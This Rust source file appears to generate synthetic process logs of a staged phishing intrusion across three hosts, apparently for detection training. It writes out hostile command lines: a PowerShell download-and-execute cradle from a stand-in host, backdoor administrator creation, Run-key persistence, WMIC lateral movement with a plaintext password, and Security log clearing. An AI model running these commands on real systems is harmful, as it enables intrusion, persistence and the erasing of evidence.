//! The intrusion: what one phishing mail brings about on three hosts.
//!
//! A document's macro starts an encoded PowerShell; a local administrator is added, tools run from
//! %TEMP% and %APPDATA%; over remote desktop the intruder looks around and goes on to the server
//! and a second workstation by WMI and by a service; at last the server's log is cleared.

use super::super::filetime::{self, SECOND};
use super::machine::{DAY, Launch, Who};

/// The script behind the encoded command.
pub const SCRIPT: &str =
    "IEX (New-Object Net.WebClient).DownloadString('http://cdn.contoso-updates.example/may/readme.txt')";

/// When the server's forwarding stops, and when its log is cleared.
pub(super) const FORWARDING_STOPPED: (u64, u64, u64) = (15, 48, 27);
pub(super) const LOG_CLEARED: (u64, u64, u64) = (15, 51, 10);

/// The victim, and the account that the intruder makes, on the first workstation.
const VICTIM: Who = Who::User(0);
const SUPPORT: Who = Who::User(1);
/// The administrator whose password is used against the server and the second workstation.
const ADMINISTRATOR: Who = Who::User(1);

const CMD: &str = r"C:\Windows\System32\cmd.exe";
const NET: &str = r"C:\Windows\System32\net.exe";
const NET1: &str = r"C:\Windows\System32\net1.exe";
const WHOAMI: &str = r"C:\Windows\System32\whoami.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// One step: time, label, parent, image, command line, who, lifetime in seconds (0: to the end).
type Step = ((u64, u64, u64), &'static str, &'static str, &'static str, &'static str, Who, u64);

#[rustfmt::skip]
const FINANCE: [Step; 27] = [
    ((10, 42, 13), "word_invoice", "explorer", r"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE", r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\m.keller\Downloads\Invoice_2024-05.docm" /o """#, VICTIM, 2500),
    ((10, 42, 31), "stager", "word_invoice", POWERSHELL, "powershell.exe -NoP -W Hidden -EncodedCommand ", VICTIM, 17_400),
    ((10, 42, 31), "", "stager", r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", VICTIM, 17_400),
    ((10, 43, 2), "shell", "stager", CMD, r"C:\Windows\system32\cmd.exe", VICTIM, 900),
    ((10, 43, 9), "", "shell", WHOAMI, "whoami  /all", VICTIM, 1),
    ((10, 43, 31), "", "shell", r"C:\Windows\System32\ipconfig.exe", "ipconfig  /all", VICTIM, 1),
    ((10, 44, 10), "net_user", "shell", NET, "net user Supp0rt LetsDefendEventLogs /add", VICTIM, 1),
    ((10, 44, 10), "", "net_user", NET1, r"C:\Windows\system32\net1 user Supp0rt LetsDefendEventLogs /add", VICTIM, 1),
    ((10, 44, 38), "net_group", "shell", NET, "net localgroup administrators Supp0rt /add", VICTIM, 1),
    ((10, 44, 38), "", "net_group", NET1, r"C:\Windows\system32\net1 localgroup administrators Supp0rt /add", VICTIM, 1),
    ((10, 47, 55), "", "stager", r"C:\Users\m.keller\AppData\Local\Temp\sysinfo64.exe", r#""C:\Users\m.keller\AppData\Local\Temp\sysinfo64.exe" -q -o C:\Users\m.keller\AppData\Local\Temp\s.dat"#, VICTIM, 74),
    ((10, 52, 20), "", "stager", r"C:\Windows\System32\reg.exe", r#""C:\Windows\system32\reg.exe" add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveSync /t REG_SZ /d "C:\Users\m.keller\AppData\Roaming\OneDriveSync\svch0st.exe" /f"#, VICTIM, 1),
    ((10, 52, 41), "beacon", "stager", r"C:\Users\m.keller\AppData\Roaming\OneDriveSync\svch0st.exe", r#""C:\Users\m.keller\AppData\Roaming\OneDriveSync\svch0st.exe" -c gate.contoso-updates.example:443"#, VICTIM, 0),
    ((13, 36, 48), "winlogon_rdp", "smss", r"C:\Windows\System32\winlogon.exe", "winlogon.exe", Who::System, 0),
    ((13, 37, 1), "userinit_rdp", "winlogon_rdp", r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe", SUPPORT, 24),
    ((13, 37, 2), "explorer_rdp", "userinit_rdp", r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", SUPPORT, 0),
    ((13, 38, 15), "cmd_rdp", "explorer_rdp", CMD, r#""C:\Windows\system32\cmd.exe" "#, SUPPORT, 0),
    ((13, 38, 15), "", "cmd_rdp", r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", SUPPORT, 0),
    ((13, 38, 22), "", "cmd_rdp", WHOAMI, "whoami", SUPPORT, 1),
    ((13, 38, 40), "", "cmd_rdp", WHOAMI, "whoami  /priv", SUPPORT, 1),
    ((13, 39, 17), "net_list", "cmd_rdp", NET, "net  localgroup administrators", SUPPORT, 1),
    ((13, 39, 17), "", "net_list", NET1, r"C:\Windows\system32\net1  localgroup administrators", SUPPORT, 1),
    ((13, 41, 52), "", "cmd_rdp", NET, r"net  view \\SRV-APP-01", SUPPORT, 2),
    ((13, 44, 30), "", "cmd_rdp", r"C:\Windows\System32\nltest.exe", "nltest  /dclist:northwind.example", SUPPORT, 1),
    ((14, 5, 31), "", "cmd_rdp", r"C:\Windows\System32\wbem\WMIC.exe", r#"wmic  /node:SRV-APP-01 /user:NORTHWIND\a.brandt /password:Winter2024! process call create "cmd.exe /c whoami > C:\Windows\Temp\w.txt""#, SUPPORT, 3),
    ((14, 17, 40), "", "cmd_rdp", r"C:\Windows\System32\sc.exe", r"sc  \\SRV-APP-01 start WinUpdCheck", SUPPORT, 1),
    ((14, 40, 58), "", "cmd_rdp", r"C:\Windows\System32\wbem\WMIC.exe", r#"wmic  /node:WKS-DEV-02 /user:NORTHWIND\a.brandt /password:Winter2024! process call create "cmd.exe /c whoami & net user Supp0rt LetsDefendEventLogs /add""#, SUPPORT, 3),
];

#[rustfmt::skip]
const DEVELOPER: [Step; 5] = [
    ((14, 40, 59), "wmi_remote", "svchost_dcom", r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", Who::NetworkService, 600),
    ((14, 41, 0), "cmd_wmi", "wmi_remote", CMD, "cmd.exe /c whoami & net user Supp0rt LetsDefendEventLogs /add", ADMINISTRATOR, 3),
    ((14, 41, 0), "", "cmd_wmi", WHOAMI, "whoami", ADMINISTRATOR, 1),
    ((14, 41, 1), "net_dev", "cmd_wmi", NET, "net user Supp0rt LetsDefendEventLogs /add", ADMINISTRATOR, 1),
    ((14, 41, 1), "", "net_dev", NET1, r"C:\Windows\system32\net1 user Supp0rt LetsDefendEventLogs /add", ADMINISTRATOR, 1),
];

#[rustfmt::skip]
const SERVER: [Step; 16] = [
    ((14, 5, 33), "wmi_remote", "svchost_dcom", r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", Who::NetworkService, 900),
    ((14, 5, 33), "cmd_wmi", "wmi_remote", CMD, r"cmd.exe /c whoami > C:\Windows\Temp\w.txt", ADMINISTRATOR, 2),
    ((14, 5, 34), "", "cmd_wmi", WHOAMI, "whoami", ADMINISTRATOR, 1),
    ((14, 17, 41), "cmd_service", "services", CMD, r"C:\Windows\system32\cmd.exe /Q /c echo whoami ^> C:\Windows\Temp\o.txt 2^>^&1 > C:\Windows\Temp\run.bat & C:\Windows\system32\cmd.exe /Q /c C:\Windows\Temp\run.bat & del C:\Windows\Temp\run.bat", Who::System, 4),
    ((14, 17, 42), "cmd_batch", "cmd_service", CMD, r"C:\Windows\system32\cmd.exe  /Q /c C:\Windows\Temp\run.bat", Who::System, 3),
    ((14, 17, 43), "", "cmd_batch", WHOAMI, "whoami", Who::System, 1),
    ((14, 26, 5), "psvc", "services", r"C:\Windows\Temp\psvc.exe", r"C:\Windows\Temp\psvc.exe", Who::System, 0),
    ((14, 26, 30), "cmd_psvc", "psvc", CMD, "cmd.exe", Who::System, 0),
    ((14, 27, 2), "net_srv", "cmd_psvc", NET, "net user Supp0rt LetsDefendEventLogs /add", Who::System, 1),
    ((14, 27, 2), "", "net_srv", NET1, r"C:\Windows\system32\net1 user Supp0rt LetsDefendEventLogs /add", Who::System, 1),
    ((14, 27, 20), "net_srv_group", "cmd_psvc", NET, "net localgroup administrators Supp0rt /add", Who::System, 1),
    ((14, 27, 20), "", "net_srv_group", NET1, r"C:\Windows\system32\net1 localgroup administrators Supp0rt /add", Who::System, 1),
    ((15, 48, 25), "net_stop", "cmd_psvc", NET, "net stop WinRM", Who::System, 2),
    ((15, 48, 25), "", "net_stop", NET1, r"C:\Windows\system32\net1 stop WinRM", Who::System, 2),
    ((15, 51, 9), "", "cmd_psvc", r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security", Who::System, 1),
    ((15, 53, 40), "", "cmd_psvc", r"C:\Windows\System32\quser.exe", "quser", Who::System, 1),
];

/// The steps on the first workstation.
pub(super) fn on_finance() -> Vec<Launch> {
    let mut launches = launches(&FINANCE);
    for launch in &mut launches {
        if launch.label == "stager" {
            launch.command_line.push_str(&encoded(SCRIPT));
        }
    }
    launches
}

/// The steps on the second workstation, whose command lines nobody records at that time.
pub(super) fn on_developer() -> Vec<Launch> {
    launches(&DEVELOPER)
}

/// The steps on the server.
pub(super) fn on_server() -> Vec<Launch> {
    launches(&SERVER)
}

fn launches(steps: &[Step]) -> Vec<Launch> {
    let mut fraction = 1_234_567;
    steps
        .iter()
        .map(|(time, label, parent, image, command_line, who, seconds)| {
            // The fractions rise by less than a second over a story's steps: order is kept.
            fraction += 271_828;
            Launch {
                at: filetime::from_utc(DAY, *time) + fraction,
                label,
                parent,
                image: (*image).to_owned(),
                command_line: (*command_line).to_owned(),
                who: *who,
                lifetime: (*seconds > 0).then_some(seconds * SECOND),
                unlogged: false,
            }
        })
        .collect()
}

/// Base64 of UTF-16LE, as PowerShell's -EncodedCommand takes it.
pub(super) fn encoded(script: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let bits = group.iter().chain([&0, &0]).take(3).fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte));
        for position in 0..4 {
            if position <= group.len() {
                text.push(char::from(ALPHABET[bits >> (18 - 6 * position) & 63]));
            } else {
                text.push('=');
            }
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_of_utf16() {
        for (script, text) in
            [("", ""), ("a", "YQA="), ("ab", "YQBiAA=="), ("abc", "YQBiAGMA"), ("whoami", "dwBoAG8AYQBtAGkA")]
        {
            assert_eq!(encoded(script), text);
        }
    }
}
